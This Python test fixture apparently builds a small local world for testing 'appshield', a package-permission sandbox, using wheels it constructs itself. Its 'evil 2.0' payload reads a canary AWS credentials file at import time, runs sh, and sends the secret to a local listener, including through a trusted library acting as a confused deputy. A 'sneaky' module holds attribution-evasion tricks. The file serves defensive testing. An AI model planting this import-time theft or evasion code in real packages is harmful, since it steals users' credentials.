"""A small world for the grants tests: real wheels, a real venv, a first-party app, and the
outside world that judges them (a canary file, TCP listeners on 127.0.0.1, marker files).

    world = build_world(tmp)          # wheels built, installed into a fresh venv (seconds)
    result = world.run(policy_text)   # the app under `appshield run` (None: bare Python)

Distributions (each a wheel built here, installed with pip into the venv):
- `goodhttp 1.0`: an HTTP-client-like library: `get(port, path)` over a raw socket;
- `framework 1.0`: calls the app's callback (`serve(handler, request)`);
- `evil 1.0`: a slug helper the app uses; `evil 2.0`: the same helper, plus, at import time
  and from a background thread it starts, reads the canary `~/.aws/credentials`, runs `sh`
  to drop a marker file, connects to the exfiltration listener, and asks `goodhttp` (which
  holds a network grant) to carry the canary to the app's own server (the confused deputy).
"""

from __future__ import annotations

import base64
import hashlib
import os
import socket
import subprocess
import sys
import textwrap
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

GOODHTTP = '''
import socket


def get(port, path="/"):
    """GET http://127.0.0.1:PORT/PATH; the status line's text."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(f"GET {path} HTTP/1.0\\r\\n\\r\\n".encode())
        return conn.recv(100).decode(errors="replace")
'''

FRAMEWORK = '''
def serve(handler, request):
    """Call the app's handler, as a web framework calls a view."""
    return handler(request)
'''

EVIL_HELPER = """
def slugify(text):
    return "-".join(text.lower().split())
"""

EVIL_PAYLOAD = """
import os
import sys
import threading

_ATTEMPTS = []


def _try(what, action):
    try:
        action()
        _ATTEMPTS.append((what, "done"))
    except Exception as exc:  # malware stays quiet
        _ATTEMPTS.append((what, type(exc).__name__))


def _steal(tag):
    def read():
        with open(os.path.expanduser("~/.aws/credentials")) as handle:
            secret = handle.read()
        globals()["_SECRET"] = secret

    def shell():
        import subprocess

        marker = os.environ["EVIL_MARKER_DIR"] + f"/{tag}"
        subprocess.run(["sh", "-c", f"echo pwned > {marker}"], check=True)

    def exfiltrate():
        import socket

        port = int(os.environ["EVIL_EXFIL_PORT"])
        with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
            conn.sendall(f"{tag}:{globals().get('_SECRET', 'nothing')}".encode())

    def deputy():
        import goodhttp  # granted 127.0.0.1:<app port>: evil borrows it

        goodhttp.get(int(os.environ["APP_SERVER_PORT"]), f"/deputy-{tag}")

    _try(f"{tag}:read", read)
    _try(f"{tag}:sh", shell)
    _try(f"{tag}:connect", exfiltrate)
    _try(f"{tag}:deputy", deputy)


_steal("import")
_worker = threading.Thread(target=_steal, args=("thread",), daemon=True)
_worker.start()
_worker.join()
"""

APP_MAIN = """
import json
import os
import sys

import app_views
import evil
import framework
import goodhttp

port = int(os.environ["APP_SERVER_PORT"])
results = {
    "own_read": open(os.environ["APP_DATA"]).read().strip(),
    "own_get": goodhttp.get(port, "/app").split()[1],
    "view": framework.serve(app_views.view, "req"),
    "slug": evil.slugify("Hello World"),
}
print("APP-RESULT " + json.dumps(results), flush=True)
"""

APP_VIEWS = """
import os

import goodhttp


def view(request):
    # called by the framework: the app's own code, with the app's rights
    with open(os.environ["APP_DATA"]) as handle:
        data = handle.read().strip()
    status = goodhttp.get(int(os.environ["APP_SERVER_PORT"]), "/view").split()[1]
    return f"{request}:{data}:{status}"
"""


SNEAKY = '''
"""Ways for a distribution's code to hide who runs it."""
import atexit
import os
import threading


def plain_read(path):
    with open(path) as f:
        return f.read()


def plain_connect(port):
    import socket
    s = socket.socket()
    try:
        s.connect(("127.0.0.1", port))
    finally:
        s.close()


def exec_read(path):
    # code made by exec has no file: its caller (this function) answers for it
    scope = {"path": path}
    exec("with open(path) as f:\\n    data = f.read()", scope)
    return scope["data"]


def disguised_read(path, app_file):
    # compiled under the app's own file name, run in a fresh namespace: still not the app's
    code = compile("with open(path) as f:\\n    data = f.read()", app_file, "exec")
    scope = {"path": path, "__name__": "__main__"}
    exec(code, scope)
    return scope["data"]


def thread_builtin(command):
    # the thread's target is the standard library's: the thread was started by sneaky
    worker = threading.Thread(target=os.system, args=(command,))
    worker.start()
    worker.join()


def thread_own(path):
    out = []

    def work():
        try:
            with open(path) as f:
                out.append(f.read())
        except OSError as exc:
            out.append(type(exc).__name__)

    worker = threading.Thread(target=work)
    worker.start()
    worker.join()
    return out[0]


def at_exit(path, marker):
    def leave():
        try:
            with open(path) as f:
                f.read()
            open(marker, "w").close()
        except OSError:
            pass

    atexit.register(leave)
'''

APP_EDGES = """
import json
import os
import sys
import threading

import sneaky

cred = os.path.expanduser("~/.aws/credentials")
marker_dir = os.environ["EVIL_MARKER_DIR"]


def attempt(name, action):
    try:
        action()
        results[name] = "done"
    except PermissionError as exc:
        results[name] = getattr(exc, "package", "") or "denied"


results = {}
attempt("exec", lambda: sneaky.exec_read(cred))
attempt("disguised", lambda: sneaky.disguised_read(cred, os.path.abspath(__file__)))
attempt("thread_own", lambda: results.__setitem__("thread_own_result", sneaky.thread_own(cred)))
sneaky.thread_builtin(f"touch {marker_dir}/thread_builtin")
sneaky.at_exit(cred, f"{marker_dir}/at_exit")


def app_thread():
    with open(cred) as f:
        results["app_thread"] = "done" if f.read() else "empty"


worker = threading.Thread(target=app_thread)
worker.start()
worker.join()
# the app's own thread with a standard-library target: started by the app
reader = threading.Thread(target=os.system, args=(f"touch {marker_dir}/app_builtin",))
reader.start()
reader.join()
# the app's own repeated open is remembered; the same open by sneaky is still judged
for _ in range(3):
    with open(os.environ["APP_DATA"]) as handle:
        handle.read()
attempt("after_app", lambda: sneaky.plain_read(os.environ["APP_DATA"]))
# the same for a connect: the app's repeats are let through early; sneaky's is not
import socket
server_port = int(os.environ["APP_SERVER_PORT"])
for _ in range(3):
    own = socket.socket()
    own.connect(("127.0.0.1", server_port))
    own.close()
attempt("connect_after_app", lambda: sneaky.plain_connect(server_port))
print("APP-RESULT " + json.dumps(results), flush=True)
"""


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def build_wheel(folder: Path, name: str, version: str, modules: dict[str, str]) -> Path:
    """A pure-Python wheel holding `modules` (file name -> source)."""
    info = f"{name}-{version}.dist-info"
    files = {path: textwrap.dedent(source).encode() for path, source in modules.items()}
    files[f"{info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    )
    files[f"{info}/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: appshield-tests\n"
        b"Root-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = [_record_line(path, data) for path, data in files.items()]
    record.append(f"{info}/RECORD,,")
    files[f"{info}/RECORD"] = ("\n".join(record) + "\n").encode()
    wheel = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return wheel


class Listener:
    """A TCP server on 127.0.0.1 that records what each connection sent."""

    def __init__(self, reply: bytes = b"") -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port: int = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._reply = reply
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
                self.received.append(data)
                if self._reply:
                    try:
                        conn.sendall(self._reply)
                    except OSError:
                        pass

    def take(self) -> list[bytes]:
        taken, self.received = self.received, []
        return taken

    def close(self) -> None:
        self.sock.close()


@dataclass
class RunResult:
    returncode: int
    stdout: str
    stderr: str
    log: list[str]
    exfiltrated: list[bytes]
    served: list[bytes]
    markers: list[str]


@dataclass
class World:
    root: Path
    python: Path
    wheels: dict[str, Path]
    app: Path
    home: Path
    server: Listener
    exfil: Listener
    runs: int = field(default=0)

    @property
    def site_packages(self) -> Path:
        found = sorted((self.root / "venv" / "lib").glob("python*/site-packages"))
        return found[0]

    def install(self, *wheels: str) -> None:
        _pip(self.python, [str(self.wheels[w]) for w in wheels])

    def env(self, **extra: str) -> dict[str, str]:
        env = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith(("APPSHIELD_", "OTEL_", "PYTHON")) and k != "VIRTUAL_ENV"
        }
        env.update(
            HOME=str(self.home),
            APP_DATA=str(self.app / "data.txt"),
            APP_SERVER_PORT=str(self.server.port),
            EVIL_EXFIL_PORT=str(self.exfil.port),
            PYTHONDONTWRITEBYTECODE="1",
            OTEL_TRACES_EXPORTER="none",
            OTEL_METRICS_EXPORTER="none",
            OTEL_LOGS_EXPORTER="none",
        )
        env.update(extra)
        return env

    def run(self, policy: str | None, argv: list[str] | None = None, **extra: str) -> RunResult:
        """The app (or `argv`, run with the venv's Python in the app's folder), bare when
        `policy` is None, else under `appshield run` with that policy text."""
        self.runs += 1
        run_dir = self.root / f"run{self.runs}"
        markers = run_dir / "markers"
        markers.mkdir(parents=True)
        log = run_dir / "appshield.log"
        env = self.env(EVIL_MARKER_DIR=str(markers), **extra)
        command = [str(self.python), *(argv or ["main.py"])]
        if policy is not None:
            policy_file = run_dir / "policy.yaml"
            policy_file.write_text(policy)
            env["APPSHIELD_LOG"] = str(log)
            command = [
                str(self.python),
                "-m",
                "appshield",
                "run",
                "--policy",
                str(policy_file),
                "--",
                *command,
            ]
        self.server.take()
        self.exfil.take()
        done = subprocess.run(
            command, cwd=self.app, env=env, capture_output=True, text=True, timeout=120
        )
        return RunResult(
            done.returncode,
            done.stdout,
            done.stderr,
            log.read_text().splitlines() if log.exists() else [],
            self.exfil.take(),
            self.server.take(),
            sorted(p.name for p in markers.iterdir()),
        )

    def close(self) -> None:
        self.server.close()
        self.exfil.close()


def _pip(python: Path, args: list[str]) -> None:
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "--python",
            str(python),
            "install",
            "-q",
            "--no-deps",
            "--no-index",
            "--force-reinstall",
            "--disable-pip-version-check",
            *args,
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )


def build_world(root: Path) -> World:
    wheels_dir = root / "wheels"
    wheels_dir.mkdir()
    wheels = {
        "goodhttp": build_wheel(wheels_dir, "goodhttp", "1.0", {"goodhttp/__init__.py": GOODHTTP}),
        "framework": build_wheel(
            wheels_dir, "framework", "1.0", {"framework/__init__.py": FRAMEWORK}
        ),
        "evil-1": build_wheel(wheels_dir, "evil", "1.0", {"evil/__init__.py": EVIL_HELPER}),
        "sneaky": build_wheel(wheels_dir, "sneaky", "1.0", {"sneaky/__init__.py": SNEAKY}),
        "evil-2": build_wheel(
            wheels_dir, "evil", "2.0", {"evil/__init__.py": EVIL_HELPER + EVIL_PAYLOAD}
        ),
    }
    venv = root / "venv"
    subprocess.run(
        [sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120
    )
    python = venv / "bin" / "python"
    site_packages = sorted((venv / "lib").glob("python*/site-packages"))[0]
    # appshield and its dependencies come from the test's own environment.
    parent = [p for p in sys.path if p.endswith("site-packages")]
    (site_packages / "_appshield_parent.pth").write_text(
        "".join(f"import site; site.addsitedir({p!r})\n" for p in parent)
    )
    _pip(python, [str(wheels[w]) for w in ("goodhttp", "framework", "sneaky", "evil-2")])
    app = root / "app"
    app.mkdir()
    (app / "main.py").write_text(textwrap.dedent(APP_MAIN))
    (app / "app_views.py").write_text(textwrap.dedent(APP_VIEWS))
    (app / "edges.py").write_text(textwrap.dedent(APP_EDGES))
    (app / "data.txt").write_text("app-data\n")
    home = root / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key=CANARY-42\n")
    world = World(
        root,
        python,
        wheels,
        app,
        home,
        Listener(b"HTTP/1.0 200 OK\r\n\r\n"),
        Listener(),
    )
    return world
